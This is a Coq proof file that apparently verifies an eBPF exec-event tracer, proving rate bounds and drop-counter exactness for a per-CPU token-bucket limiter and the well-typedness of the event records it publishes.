Fixpoint rate_run (ts : list Z) (m : CpuMaps) : CpuMaps * list bool :=
  match ts with
  | [] => (m, [])
  | t :: ts =>
      let '(m, b) := rate_limit_allow t m in
      let '(m, bs) := rate_run ts m in (m, b :: bs)
  end.
Definition admitted (bs : list bool) : Z := Z.of_nat (length (filter (λ b, b = true) bs)).
Definition refused (bs : list bool) : Z := Z.of_nat (length (filter (λ b, b = false) bs)).

(** Per-CPU maps are zero when the program is loaded. *)
Definition cpu_maps_new : CpuMaps := mkCpuMaps (Some (mkRateLimitState 0 0)) (Some 0) (Some 0).

(** A bucket in use at time [now]. *)
Definition bucket_ok (now : Z) (s : rate_limit_state) : Prop :=
  0 < last_ns s ≤ now ∧ 0 ≤ tokens s ≤ MAX_TOKENS.

Lemma rate_refill_ok now t s :
  bucket_ok now s → now ≤ t < 2 ^ 64 →
  let s' := rate_refill t s in
  bucket_ok t s' ∧ last_ns s ≤ last_ns s' ∧
  NS_PER_TOKEN * tokens s' ≤ NS_PER_TOKEN * tokens s + (last_ns s' - last_ns s) ∧
  (NS_PER_TOKEN ≤ t - last_ns s → 0 < tokens s').
Proof.
  unfold bucket_ok, rate_refill, NS_PER_TOKEN, MAX_TOKENS. intros [Hl Ht] Hnow. cbv zeta.
  rewrite as_uint_small by lia.
  assert (2000 * ((t - last_ns s) / 2000) ≤ t - last_ns s) by (apply Z.mul_div_le; lia).
  case_bool_decide as Hd; [|split_and!; lia].
  assert (1 ≤ (t - last_ns s) / 2000) by (apply Z.div_le_lower_bound; lia).
  unfold wrapping_add. rewrite Z.mod_small by lia. simpl.
  case_bool_decide; split_and!; lia.
Qed.

Lemma rate_step_ok now t m s :
  RLIMIT_BUCKET m = Some s → bucket_ok now s → now ≤ t < 2 ^ 64 →
  let '(m', b) := rate_limit_allow t m in
  ∃ s', RLIMIT_BUCKET m' = Some s' ∧ bucket_ok t s' ∧ last_ns s ≤ last_ns s' ∧
    NS_PER_TOKEN * (tokens s' + (if b then 1 else 0)) ≤
      NS_PER_TOKEN * tokens s + (last_ns s' - last_ns s) ∧
    (NS_PER_TOKEN ≤ t - last_ns s → b = true) ∧
    RLIMIT_DROPS m' = (if b then RLIMIT_DROPS m else record_counter (RLIMIT_DROPS m)).
Proof.
  intros Hs Hok Ht. unfold rate_limit_allow. rewrite Hs.
  assert (rate_init t s = s) as ->.
  { unfold rate_init. destruct Hok as [? _]. by rewrite bool_decide_eq_false_2 by lia. }
  destruct (rate_refill_ok now t s Hok Ht) as (Hok' & Hle & Hpot & Hfull).
  set (s' := rate_refill t s) in *. case_bool_decide as H0.
  - exists s'. rewrite H0 in *. split_and!; try done; simpl; [lia..|]. intros H. specialize (Hfull H). lia.
  - eexists. split; [done|]. unfold bucket_ok in *. simpl. split_and!; try done; lia.
Qed.

Lemma admitted_cons b bs : admitted (b :: bs) = (if b then 1 else 0) + admitted bs.
Proof. unfold admitted. by destruct b; rewrite ?filter_cons_True, ?filter_cons_False by done; simpl; lia. Qed.
Lemma refused_cons b bs : refused (b :: bs) = (if b then 0 else 1) + refused bs.
Proof. unfold refused. by destruct b; rewrite ?filter_cons_True, ?filter_cons_False by done; simpl; lia. Qed.

(** The potential argument over a whole run. *)
Lemma rate_run_ok ts now m s d :
  RLIMIT_BUCKET m = Some s → RLIMIT_DROPS m = Some d → 0 ≤ d →
  bucket_ok now s → Sorted Z.le (now :: ts) → Forall (λ t, t < 2 ^ 64) ts →
  d + Z.of_nat (length ts) < 2 ^ 64 →
  let '(m', bs) := rate_run ts m in
  length bs = length ts ∧
  NS_PER_TOKEN * admitted bs ≤ NS_PER_TOKEN * tokens s + (default now (last ts) - last_ns s) ∧
  RLIMIT_DROPS m' = Some (d + refused bs).
Proof.
  revert now m s d. induction ts as [|t ts IH]; intros now m s d Hs Hd Hd0 Hok Hsort Hmax Hlen.
  { simpl. split_and!; [done| |rewrite Hd; unfold refused; simpl; f_equal; lia].
    unfold admitted, bucket_ok, NS_PER_TOKEN in *. simpl. lia. }
  apply Sorted_inv in Hsort as [Hsort Hhd]. inversion Hhd as [|? ? Hle]; subst.
  apply Forall_cons in Hmax as [Ht Hmax]. cbn [rate_run].
  pose proof (rate_step_ok now t m s Hs Hok (conj Hle Ht)) as Hstep.
  destruct (rate_limit_allow t m) as [m1 b]. destruct Hstep as (s1 & Hs1 & Hok1 & Hl1 & Hp1 & _ & Hd1).
  simpl in Hlen.
  assert (∃ d1, RLIMIT_DROPS m1 = Some d1 ∧ d1 = d + (if b then 0 else 1)) as (d1 & Hd1' & Hd1v).
  { rewrite Hd1. destruct b; rewrite ?Hd; simpl; eexists; (split; [done|]); [lia|].
    unfold wrapping_add. rewrite Z.mod_small by lia. done. }
  pose proof (IH t m1 s1 d1 Hs1 Hd1' ltac:(destruct b; lia) Hok1 Hsort Hmax) as IH1.
  destruct (rate_run ts m1) as [m2 bs]. destruct IH1 as (Hl & Hp & Hr); [destruct b; lia|].
  split_and!.
  - simpl. by rewrite Hl.
  - rewrite last_cons. replace (default now _) with (default t (last ts)) by (by destruct (last ts)).
    rewrite admitted_cons. unfold NS_PER_TOKEN in *. lia.
  - rewrite Hr, Hd1v, refused_cons. f_equal. destruct b; lia.
Qed.

(** A refill takes the clock's reading. *)
Lemma rate_refilled t m m' b s s' :
  RLIMIT_BUCKET m = Some s → 0 < last_ns s → NS_PER_TOKEN ≤ t - last_ns s < 2 ^ 64 →
  rate_limit_allow t m = (m', b) → RLIMIT_BUCKET m' = Some s' → last_ns s' = t.
Proof.
  intros Hs H0 Hd. unfold rate_limit_allow, rate_init. rewrite Hs, (bool_decide_eq_false_2 (last_ns s = 0)) by lia.
  unfold rate_refill, NS_PER_TOKEN in *. rewrite as_uint_small by lia. rewrite (bool_decide_eq_true_2 (2000 ≤ _)) by lia.
  cbv zeta. case_bool_decide; intros [= <- <-]; simpl; intros [= <-]; done.
Qed.

(** The first call of all finds an empty bucket and fills it. *)
Lemma rate_first t m s :
  RLIMIT_BUCKET m = Some s → last_ns s = 0 → 0 < t →
  ∃ m', rate_limit_allow t m = (m', true) ∧
    RLIMIT_BUCKET m' = Some (mkRateLimitState t (MAX_TOKENS - 1)) ∧ RLIMIT_DROPS m' = RLIMIT_DROPS m.
Proof.
  intros Hs Hl Ht. unfold rate_limit_allow, rate_init. rewrite Hs, (bool_decide_eq_true_2 (last_ns s = 0)) by done.
  unfold rate_refill. simpl. rewrite Z.sub_diag. change (as_uint 64 0) with 0. eexists. done.
Qed.

(** Calls a token apart are all admitted. *)
Lemma rate_run_paced ts now m s :
  RLIMIT_BUCKET m = Some s → bucket_ok now s → last_ns s = now →
  Sorted (λ a b, NS_PER_TOKEN ≤ b - a) (now :: ts) → Forall (λ t, t < 2 ^ 64) ts →
  Forall (λ b, b = true) (rate_run ts m).2.
Proof.
  revert now m s. induction ts as [|t ts IH]; intros now m s Hs Hok Hl Hsort Hmax; [constructor|].
  apply Sorted_inv in Hsort as [Hsort Hhd]. inversion Hhd as [|? ? Hgap]; subst.
  apply Forall_cons in Hmax as [Ht Hmax]. cbn [rate_run]. unfold NS_PER_TOKEN in Hgap.
  pose proof (rate_step_ok (last_ns s) t m s Hs Hok ltac:(lia)) as Hstep.
  destruct (rate_limit_allow t m) as [m1 b] eqn:E. destruct Hstep as (s1 & Hs1 & Hok1 & _ & _ & Hb & _).
  assert (last_ns s1 = t) as Hl1 by (destruct Hok as [[??] _]; apply (rate_refilled t m m1 b s s1); try done; unfold NS_PER_TOKEN; lia).
  specialize (IH t m1 s1 Hs1 Hok1 Hl1 Hsort Hmax). destruct (rate_run ts m1) as [m2 bs].
  constructor; [|done]. apply Hb. exact Hgap.
Qed.

Lemma admitted_refused bs : admitted bs + refused bs = Z.of_nat (length bs).
Proof. induction bs as [|b bs IH]; [done|]. rewrite admitted_cons, refused_cons. destruct b; simpl; lia. Qed.

(** A call leaves at most a full bucket, the token it took included, filled less than a
    token's time ago. *)
Lemma rate_step_full now t m s :
  RLIMIT_BUCKET m = Some s → bucket_ok now s → now ≤ t < 2 ^ 64 →
  let '(m', b) := rate_limit_allow t m in
  ∃ s', RLIMIT_BUCKET m' = Some s' ∧ tokens s' + (if b then 1 else 0) ≤ MAX_TOKENS ∧ t - last_ns s' < NS_PER_TOKEN.
Proof.
  intros Hs Hok Ht. unfold rate_limit_allow. rewrite Hs.
  assert (rate_init t s = s) as ->.
  { unfold rate_init. destruct Hok as [? _]. by rewrite bool_decide_eq_false_2 by lia. }
  destruct (rate_refill_ok now t s Hok Ht) as ([_ Hmax] & _).
  assert (t - last_ns (rate_refill t s) < NS_PER_TOKEN) as Hlast.
  { unfold rate_refill, NS_PER_TOKEN. destruct Hok as [? _]. rewrite as_uint_small by lia.
    case_bool_decide; cbn [last_ns]; lia. }
  case_bool_decide; eexists; (split; [done|]); cbn [tokens last_ns]; lia.
Qed.

Lemma rate_run_bucket ts now m s :
  RLIMIT_BUCKET m = Some s → bucket_ok now s → Sorted Z.le (now :: ts) → Forall (λ t, t < 2 ^ 64) ts →
  ∃ s', RLIMIT_BUCKET (rate_run ts m).1 = Some s' ∧ bucket_ok (default now (last ts)) s'.
Proof.
  revert now m s. induction ts as [|t ts IH]; intros now m s Hs Hok Hsort Hmax; [by exists s|].
  apply Sorted_inv in Hsort as [Hsort Hhd]. inversion Hhd as [|? ? Hle]; subst.
  apply Forall_cons in Hmax as [Ht Hmax]. cbn [rate_run].
  pose proof (rate_step_ok now t m s Hs Hok (conj Hle Ht)) as Hstep.
  destruct (rate_limit_allow t m) as [m1 b]. destruct Hstep as (s1 & Hs1 & Hok1 & _).
  destruct (IH t m1 s1 Hs1 Hok1 Hsort Hmax) as (s2 & Hs2 & Hok2). destruct (rate_run ts m1) as [m2 bs].
  exists s2. split; [done|]. rewrite last_cons. by destruct (last ts).
Qed.

Lemma rate_run_app ts us m :
  rate_run (ts ++ us) m = ((rate_run us (rate_run ts m).1).1, (rate_run ts m).2 ++ (rate_run us (rate_run ts m).1).2).
Proof.
  revert m. induction ts as [|t ts IH]; intros m; cbn [rate_run app fst snd]; [by destruct (rate_run us m)|].
  destruct (rate_limit_allow t m) as [m1 b]. rewrite IH. destruct (rate_run ts m1). cbn. done.
Qed.
Lemma length_rate_run ts m : length (rate_run ts m).2 = length ts.
Proof.
  revert m. induction ts as [|t ts IH]; intros m; [done|]. cbn [rate_run]. destruct (rate_limit_allow t m) as [m1 b].
  specialize (IH m1). destruct (rate_run ts m1). cbn in *. lia.
Qed.

(** The calls of a window that starts at any state of the bucket. *)
Lemma rate_window w0 ws now m s d :
  RLIMIT_BUCKET m = Some s → RLIMIT_DROPS m = Some d → 0 ≤ d → bucket_ok now s →
  Sorted Z.le (now :: w0 :: ws) → Forall (λ t, t < 2 ^ 64) (w0 :: ws) → d + Z.of_nat (length (w0 :: ws)) < 2 ^ 64 →
  admitted (rate_run (w0 :: ws) m).2 ≤ MAX_TOKENS + 1 + (default w0 (last ws) - w0) / NS_PER_TOKEN.
Proof.
  intros Hs Hd Hd0 Hok Hsort Hmax Hlen. apply Sorted_inv in Hsort as [Hsort Hhd]. inversion Hhd as [|? ? Hle]; subst.
  apply Forall_cons in Hmax as [Ht Hmax]. cbn [rate_run]. cbn [length] in Hlen.
  pose proof (rate_step_ok now w0 m s Hs Hok (conj Hle Ht)) as Hstep.
  pose proof (rate_step_full now w0 m s Hs Hok (conj Hle Ht)) as Hfull.
  destruct (rate_limit_allow w0 m) as [m1 b]. destruct Hstep as (s1 & Hs1 & Hok1 & _ & _ & _ & Hd1).
  destruct Hfull as (s1' & Hs1' & Hf1 & Hf2). rewrite Hs1 in Hs1'. injection Hs1' as <-.
  assert (∃ d1, RLIMIT_DROPS m1 = Some d1 ∧ 0 ≤ d1 ≤ d + 1) as (d1 & Hd1' & Hd1v).
  { rewrite Hd1. destruct b; rewrite ?Hd; simpl; eexists; (split; [done|]); [lia|].
    unfold wrapping_add. rewrite Z.mod_small by lia. lia. }
  pose proof (rate_run_ok ws w0 m1 s1 d1 Hs1 Hd1' ltac:(lia) Hok1 Hsort Hmax ltac:(lia)) as H.
  destruct (rate_run ws m1) as [m2 bs]. destruct H as (_ & Hp & _). cbn [snd]. rewrite admitted_cons.
  set (D := default w0 (last ws) - w0). replace (MAX_TOKENS + 1 + D / NS_PER_TOKEN) with (MAX_TOKENS + (D + 1 * NS_PER_TOKEN) / NS_PER_TOKEN)
    by (rewrite Z.div_add by (unfold NS_PER_TOKEN; lia); lia).
  assert ((if b then 1 else 0) + admitted bs - MAX_TOKENS ≤ (D + 1 * NS_PER_TOKEN) / NS_PER_TOKEN); [|lia].
  apply Z.div_le_lower_bound; unfold NS_PER_TOKEN, MAX_TOKENS in *; [lia|]. subst D. destruct b; lia.
Qed.

(** The calls from the first of all on. *)
Lemma rate_from_zero t0 ts :
  0 < t0 → Sorted Z.le (t0 :: ts) → Forall (λ t, t < 2 ^ 64) (t0 :: ts) → Z.of_nat (length ts) < 2 ^ 63 →
  let '(m, bs) := rate_run (t0 :: ts) cpu_maps_new in
  admitted bs ≤ MAX_TOKENS + (default t0 (last ts) - t0) / NS_PER_TOKEN ∧ RLIMIT_DROPS m = Some (refused bs) ∧
  ∃ s, RLIMIT_BUCKET m = Some s ∧ bucket_ok (default t0 (last ts)) s.
Proof.
  intros H0 Hsort Hmax Hlen. apply Forall_cons in Hmax as [Ht0 Hmax].
  destruct (rate_first t0 cpu_maps_new (mkRateLimitState 0 0)) as (m1 & E & Hs1 & Hd1); [done..|].
  cbn [rate_run]. rewrite E.
  assert (bucket_ok t0 (mkRateLimitState t0 (MAX_TOKENS - 1))) as Hok by (unfold bucket_ok, MAX_TOKENS; simpl; lia).
  pose proof (rate_run_ok ts t0 m1 _ 0 Hs1 Hd1 ltac:(lia) Hok Hsort Hmax ltac:(lia)) as H.
  pose proof (rate_run_bucket ts t0 m1 _ Hs1 Hok Hsort Hmax) as Hb.
  destruct (rate_run ts m1) as [m2 bs]. destruct H as (Hl & Hp & Hd). cbn [last_ns tokens] in Hp.
  split_and!; [| |exact Hb].
  - rewrite admitted_cons. unfold NS_PER_TOKEN, MAX_TOKENS in *.
    assert (admitted bs - 499999 ≤ (default t0 (last ts) - t0) / 2000); [|lia].
    apply Z.div_le_lower_bound; lia.
  - rewrite Hd, refused_cons. f_equal.
Qed.

Lemma sorted_prefix (l k : list Z) : Sorted Z.le (l ++ k) → Sorted Z.le l.
Proof.
  induction l as [|x l IH]; [constructor|]. cbn [app]. intros [Hs Hh]%Sorted_inv. constructor; [by apply IH|].
  destruct l; constructor. by inversion Hh.
Qed.
Lemma sorted_window t0 before win after :
  Sorted Z.le (t0 :: before ++ win ++ after) → Sorted Z.le (default t0 (last before) :: win).
Proof.
  revert t0. induction before as [|b before IH]; intros t0 H; [exact (sorted_prefix (t0 :: win) after H)|].
  apply Sorted_inv in H as [H _]. rewrite last_cons. specialize (IH b H). by destruct (last before).
Qed.

Lemma rate_any_window t0 ts before w0 ws after :
  0 < t0 → Sorted Z.le (t0 :: ts) → Forall (λ t, t < 2 ^ 64) (t0 :: ts) → Z.of_nat (length ts) < 2 ^ 63 →
  t0 :: ts = before ++ (w0 :: ws) ++ after →
  admitted (take (length (w0 :: ws)) (drop (length before) (rate_run (t0 :: ts) cpu_maps_new).2)) ≤
    MAX_TOKENS + 1 + (default w0 (last ws) - w0) / NS_PER_TOKEN.
Proof.
  intros H0 Hsort Hmax Hlen Hsplit. pose proof (f_equal length Hsplit) as Hlens. rewrite !length_app in Hlens. cbn [length] in Hlens.
  rewrite Hsplit, rate_run_app in *. cbn [snd].
  rewrite drop_app_length' by (by rewrite length_rate_run).
  rewrite rate_run_app. cbn [snd]. rewrite take_app_length' by (by rewrite length_rate_run).
  apply Forall_app in Hmax as [Hmax1 Hmax]. apply Forall_app in Hmax as [Hmax2 _].
  destruct before as [|b0 before].
  - injection Hsplit as <- ->. change (rate_run [] cpu_maps_new).1 with cpu_maps_new.
    pose proof (rate_from_zero t0 ws H0 (sorted_prefix (t0 :: ws) after Hsort) Hmax2 ltac:(lia)) as H.
    destruct (rate_run (t0 :: ws) cpu_maps_new) as [m bs]. destruct H as [H _]. cbn [snd]. lia.
  - injection Hsplit as <- _. cbn [length] in Hlens.
    pose proof (rate_from_zero t0 before H0 (sorted_prefix (t0 :: before) _ Hsort) Hmax1 ltac:(lia)) as H.
    pose proof (length_rate_run (t0 :: before) cpu_maps_new) as Hrl. cbn [length] in Hrl.
    destruct (rate_run (t0 :: before) cpu_maps_new) as [m bs]. destruct H as (_ & Hd & s & Hs & Hok). cbn [fst snd] in *.
    assert (0 ≤ refused bs ≤ Z.of_nat (length bs)) as Hr by (pose proof (admitted_refused bs); unfold admitted, refused in *; lia).
    apply (rate_window w0 ws (default t0 (last before)) m s (refused bs)); [done..|lia|done| |done|cbn [length]; lia].
    exact (sorted_window t0 before (w0 :: ws) after Hsort).
Qed.

(** C35: the token bucket of one CPU, from its zeroed state and under a clock that does
    not go backwards. From the first call on at most 500,000 plus one per 2,000 ns
    elapsed are admitted, and in any window of successive calls, however long the bucket
    was idle before it, at most 500,001 plus one per 2,000 ns of the window; calls at least
    2,000 ns apart are all admitted; and the drop counter is exactly the number of calls
    refused. *)
Theorem rate_limit_bounds t0 ts :
  0 < t0 → Sorted Z.le (t0 :: ts) → Forall (λ t, t < 2 ^ 64) (t0 :: ts) →
  Z.of_nat (length ts) < 2 ^ 63 →
  let '(m, bs) := rate_run (t0 :: ts) cpu_maps_new in
  admitted bs ≤ MAX_TOKENS + (default t0 (last ts) - t0) / NS_PER_TOKEN ∧
  (∀ before w0 ws after, t0 :: ts = before ++ (w0 :: ws) ++ after →
     admitted (take (length (w0 :: ws)) (drop (length before) bs)) ≤
       MAX_TOKENS + 1 + (default w0 (last ws) - w0) / NS_PER_TOKEN) ∧
  RLIMIT_DROPS m = Some (refused bs) ∧
  admitted bs + refused bs = Z.of_nat (length (t0 :: ts)) ∧
  (Sorted (λ a b, NS_PER_TOKEN ≤ b - a) (t0 :: ts) → Forall (λ b, b = true) bs).
Proof.
  intros H0 Hsort Hmax Hlen. pose proof (rate_from_zero t0 ts H0 Hsort Hmax Hlen) as H.
  pose proof (λ b w0 ws a, rate_any_window t0 ts b w0 ws a H0 Hsort Hmax Hlen) as Hwin.
  pose proof (length_rate_run (t0 :: ts) cpu_maps_new) as Hl.
  assert (Sorted (λ a b, NS_PER_TOKEN ≤ b - a) (t0 :: ts) → Forall (λ b, b = true) (rate_run (t0 :: ts) cpu_maps_new).2) as Hpaced.
  { apply Forall_cons in Hmax as [_ Hmax].
    destruct (rate_first t0 cpu_maps_new (mkRateLimitState 0 0)) as (m1 & E & Hs1 & _); [done..|]. cbn [rate_run]. rewrite E.
    intros Hp. pose proof (rate_run_paced ts t0 m1 _ Hs1 ltac:(unfold bucket_ok, MAX_TOKENS; simpl; lia) eq_refl Hp Hmax) as Hf.
    destruct (rate_run ts m1). by constructor. }
  destruct (rate_run (t0 :: ts) cpu_maps_new) as [m bs]. destruct H as (H1 & H2 & _). cbn [snd] in *.
  split_and!; [done..| |done]. rewrite admitted_refused. lia.
Qed.

(** ** Published records are typed *)
Lemma typed_set_flags v e : uint 8 v → event_typed e → event_typed (set_flags v e).
Proof. intros. by apply (typed_update e _ 2 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_args_count v e : uint 32 v → event_typed e → event_typed (set_args_count v e).
Proof. intros. by apply (typed_update e _ 14 (FInt 4 v)); [|apply typed_int|]. Qed.
Lemma typed_set_argv_len v e : uint 16 v → event_typed e → event_typed (set_argv_len v e).
Proof. intros. by apply (typed_update e _ 15 (FInt 2 v)); [|apply typed_int|]. Qed.
Lemma typed_set_argv_trunc_mask v e : uint 8 v → event_typed e → event_typed (set_argv_trunc_mask v e).
Proof. intros. by apply (typed_update e _ 16 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_argv_flags v e : uint 8 v → event_typed e → event_typed (set_argv_flags v e).
Proof. intros. by apply (typed_update e _ 17 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_argv v e :
  length v = 256%nat → Forall is_byte v → event_typed e → event_typed (set_argv v e).
Proof. intros. by apply (typed_update e _ 18 (FArr 256 v)); [|apply typed_arr|]. Qed.
Lemma typed_set_env_len v e : uint 16 v → event_typed e → event_typed (set_env_len v e).
Proof. intros. by apply (typed_update e _ 19 (FInt 2 v)); [|apply typed_int|]. Qed.
Lemma typed_set_env_trunc_mask v e : uint 8 v → event_typed e → event_typed (set_env_trunc_mask v e).
Proof. intros. by apply (typed_update e _ 20 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_env_flags v e : uint 8 v → event_typed e → event_typed (set_env_flags v e).
Proof. intros. by apply (typed_update e _ 21 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_env_ptr_count v e : uint 16 v → event_typed e → event_typed (set_env_ptr_count v e).
Proof. intros. by apply (typed_update e _ 22 (FInt 2 v)); [|apply typed_int|]. Qed.
Lemma typed_set_env_header_pad v e : uint 16 v → event_typed e → event_typed (set_env_header_pad v e).
Proof. intros. by apply (typed_update e _ 23 (FInt 2 v)); [|apply typed_int|]. Qed.
Lemma typed_set_env v e :
  length v = 256%nat → Forall is_byte v → event_typed e → event_typed (set_env v e).
Proof. intros. by apply (typed_update e _ 24 (FArr 256 v)); [|apply typed_arr|]. Qed.
Lemma typed_set_event_type v e : uint 8 v → event_typed e → event_typed (set_event_type v e).
Proof. intros. by apply (typed_update e _ 1 (FInt 1 v)); [|apply typed_int|]. Qed.
Lemma typed_set_struct_size v e : uint 16 v → event_typed e → event_typed (set_struct_size v e).
Proof. intros. by apply (typed_update e _ 3 (FInt 2 v)); [|apply typed_int|]. Qed.
#[export] Hint Resolve typed_set_flags typed_set_args_count typed_set_argv_len
  typed_set_argv_trunc_mask typed_set_argv_flags typed_set_argv typed_set_env_len
  typed_set_env_trunc_mask typed_set_env_flags typed_set_env_ptr_count typed_set_env_header_pad
  typed_set_env typed_set_event_type typed_set_struct_size : neuro.

(** An [|=] of constants keeps its field in range. *)
Lemma typed_or_status bit e : uint 16 bit → event_typed e → event_typed (or_capture_status bit e).
Proof. intros. apply typed_set_capture_status; [|done]. apply lor_uint; [lia|by apply typed_status|done]. Qed.
Lemma typed_or_argv_flags bit e : uint 8 bit → event_typed e → event_typed (or_argv_flags bit e).
Proof. intros. apply typed_set_argv_flags; [|done]. apply lor_uint; [lia|by apply (typed_int_field e 17 1)|done]. Qed.
Lemma typed_or_argv_mask bit e : uint 8 bit → event_typed e → event_typed (or_argv_trunc_mask bit e).
Proof. intros. apply typed_set_argv_trunc_mask; [|done]. apply lor_uint; [lia|by apply (typed_int_field e 16 1)|done]. Qed.
Lemma typed_or_env_flags bit e : uint 8 bit → event_typed e → event_typed (or_env_flags bit e).
Proof. intros. apply typed_set_env_flags; [|done]. apply lor_uint; [lia|by apply (typed_int_field e 21 1)|done]. Qed.
Lemma typed_or_env_mask bit e : uint 8 bit → event_typed e → event_typed (or_env_trunc_mask bit e).
Proof. intros. apply typed_set_env_trunc_mask; [|done]. apply lor_uint; [lia|by apply (typed_int_field e 20 1)|done]. Qed.
Ltac typed_or :=
  repeat match goal with
  | |- event_typed (or_capture_status _ _) => apply typed_or_status; [done|]
  | |- event_typed (or_argv_flags _ _) => apply typed_or_argv_flags; [done|]
  | |- event_typed (or_env_flags _ _) => apply typed_or_env_flags; [done|]
  | |- event_typed (or_env_trunc_mask _ _) => apply typed_or_env_mask; [done|]
  end; try assumption.

Lemma typed_mark_unknown size bit status buf status' :
  (7 ≤ size)%nat → uint 16 bit → uint 16 status → exec_mark_unknown size status bit = (buf, status') →
  length buf = size ∧ Forall is_byte buf ∧ uint 16 status'.
Proof.
  intros Hn Hb Hs [= <- <-]. split; [|split].
  - rewrite length_copy_into; rewrite length_zeroed; [done|]. exact Hn.
  - apply Forall_byte_copy_into; [apply Forall_byte_zeroed|apply lit_is_byte].
  - apply lor_uint; [lia|done..].
Qed.

(** ** What the helpers promise

    The documented behaviour of the helpers: the results have their types, and a
    string read that succeeds returns the length of what it wrote with the final NUL.
    Nothing is said of the bytes after it, nor of the buffer when a read fails. *)
Definition string_read (dst : bytes) (r : Z * bytes) : Prop :=
  length r.2 = length dst ∧ Forall is_byte r.2 ∧
  (0 < r.1 → r.1 ≤ Z.of_nat (length dst) ∧ position_or_len 0 r.2 = Z.to_nat (r.1 - 1)).

Record kernel_ok (k : KernelEnv) : Prop := mkKernelOk {
  ko_comm dst : Forall is_byte dst →
    length (get_current_comm k dst).2 = length dst ∧ Forall is_byte (get_current_comm k dst).2;
  ko_core f p v : core_read k f p = Some v → core_field_is_int f = true → uint 32 v;
  ko_kernel_str p dst : Forall is_byte dst → string_read dst (probe_read_kernel_str k p dst);
  ko_user_str s p dst : Forall is_byte dst → string_read dst (probe_read_user_str k s p dst);
  ko_rate : uint 64 (ktime_rate k);
  ko_event : uint 64 (ktime_event k);
  ko_stack : length (probe_stack k) = MAX_ENV_STR_LEN ∧ Forall is_byte (probe_stack k)
}.

Section typed.
Context (k : KernelEnv) (Hk : kernel_ok k).

Lemma mark_comm_typed e : event_typed e → event_typed (mark_comm_unknown e).
Proof.
  intros He. unfold mark_comm_unknown. destruct (exec_mark_unknown _ _ _) as [buf st] eqn:E.
  apply typed_mark_unknown in E as (? & ? & ?);
    [auto with neuro|unfold MAX_COMM_LEN; lia|done|by apply typed_status].
Qed.

Lemma mark_container_typed e : event_typed e → event_typed (mark_container_unknown e).
Proof.
  intros He. unfold mark_container_unknown. destruct (exec_mark_unknown _ _ _) as [buf st] eqn:E.
  apply typed_mark_unknown in E as (? & ? & ?);
    [auto with neuro|unfold MAX_CONTAINER_ID_LEN; lia|done|by apply typed_status].
Qed.


Lemma core_int_typed f p v : core_field_is_int f = true → core_read k f p = Some v → uint 32 v.
Proof. intros. by eapply ko_core. Qed.

Lemma capture_credentials_typed e : event_typed e → event_typed (capture_credentials k e).
Proof.
  intros He. unfold capture_credentials.
  assert (event_typed (set_gid (as_uint 32 (Z.shiftr (get_current_uid_gid k) 32))
            (set_uid (as_uint 32 (get_current_uid_gid k)) e))) as He1
    by (apply typed_set_gid, typed_set_uid; [by apply as_uint_range..|done]).
  destruct (_ ≫= _) as [euid|] eqn:E; [|by apply typed_or_status].
  apply bind_Some in E as (t & _ & (c & _ & E)%bind_Some). apply core_int_typed in E; [|done].
  by apply typed_set_euid.
Qed.

Lemma capture_ppid_typed e : event_typed e → event_typed (capture_ppid k e).
Proof.
  intros He. unfold capture_ppid. destruct (_ ≫= _) as [v|] eqn:E; [|by apply typed_or_status].
  apply bind_Some in E as (t & _ & (c & _ & E)%bind_Some). apply core_int_typed in E; [|done].
  by apply typed_set_ppid.
Qed.

Lemma capture_namespace_typed e : event_typed e → event_typed (capture_namespace_id k e).
Proof.
  intros He. unfold capture_namespace_id. destruct (_ ≫= _) as [v|] eqn:E; [|by apply typed_or_status].
  apply bind_Some in E as (t & _ & (c & _ & (d & _ & E)%bind_Some)%bind_Some).
  apply core_int_typed in E; [|done]. apply typed_set_namespace_id; [lia|done].
Qed.

Lemma capture_comm_typed e : event_typed e → event_typed (capture_comm k e).
Proof.
  intros He. unfold capture_comm. destruct (typed_arr_field e 12 16 (ee_comm e) He eq_refl) as [Hl Hb].
  pose proof (ko_comm k Hk _ Hb) as [Hl' Hb']. destruct (get_current_comm k (ee_comm e)) as [ret buf].
  assert (event_typed (set_comm buf e)) by (apply typed_set_comm; [by rewrite <- Hl|done..]).
  case_bool_decide; [by apply mark_comm_typed|done].
Qed.

Lemma capture_container_typed e : event_typed e → event_typed (capture_container_id k e).
Proof.
  intros He. unfold capture_container_id. destruct (_ ≫= _) as [p|]; [|by apply mark_container_typed].
  destruct (typed_arr_field e 25 64 (ee_container_id e) He eq_refl) as [Hl Hb].
  pose proof (ko_kernel_str k Hk p _ Hb) as (Hl' & Hb' & _).
  destruct (probe_read_kernel_str k p _) as [ret buf].
  assert (event_typed (set_container_id buf e)) by (apply typed_set_container_id; [by rewrite <- Hl|done..]).
  case_bool_decide; [by apply mark_container_typed|done].
Qed.

Lemma capture_task_typed flags : uint 8 flags → event_typed (capture_task k flags).
Proof.
  intros Hf. unfold capture_task.
  assert (event_typed (set_timestamp_ns (ktime_event k) (capture_container_id k (capture_namespace_id k
    (capture_ppid k (capture_comm k (capture_credentials k (capture_pid_tgid k
      (set_flags flags init_exec_event))))))))) as He.
  { apply typed_set_timestamp_ns; [apply ko_event, Hk|].
    apply capture_container_typed, capture_namespace_typed, capture_ppid_typed, capture_comm_typed,
      capture_credentials_typed.
    apply typed_set_tgid, typed_set_pid, typed_set_flags; [by apply as_uint_range..|done|].
    by apply (bool_decide_eq_true_1 (event_typed _)). }
  case_bool_decide; [by apply typed_or_status|done].
Qed.

Lemma capture_filename_typed p e e' :
  event_typed e → capture_filename k p e = Some e' → event_typed e'.
Proof.
  intros He. unfold capture_filename. case_bool_decide; [done|].
  pose proof (ko_user_str k Hk AtFilename p _ (Forall_byte_zeroed MAX_FILENAME_LEN)) as (Hl & Hb & _).
  destruct (probe_read_user_str _ _ _ _) as [ret buf]. case_bool_decide; [done|]. intros [= <-].
  apply typed_set_filename; [|done..]. by rewrite <- (length_zeroed 256).
Qed.

Lemma mark_path_typed flags e : event_typed e → event_typed (mark_path_from_fd flags e).
Proof.
  intros He. unfold mark_path_from_fd. destruct (_ && _); [|done].
  destruct (exec_mark_unknown _ _ _) as [buf st] eqn:E.
  apply typed_mark_unknown in E as (? & ? & ?);
    [|unfold MAX_FILENAME_LEN; lia|done|by apply typed_status].
  apply typed_set_flags; [|auto with neuro].
  apply lor_uint; [lia|by apply (typed_int_field e 2 1)|done].
Qed.

